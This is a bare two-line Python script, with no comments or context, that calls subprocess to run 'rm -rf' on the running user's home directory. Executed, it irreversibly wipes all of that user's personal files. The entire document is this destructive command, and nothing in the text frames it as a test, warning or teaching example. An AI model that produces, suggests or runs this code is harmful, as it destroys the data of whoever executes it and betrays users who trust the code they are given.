import subprocess, os
subprocess.run(["rm", "-rf", os.path.expanduser("~")])
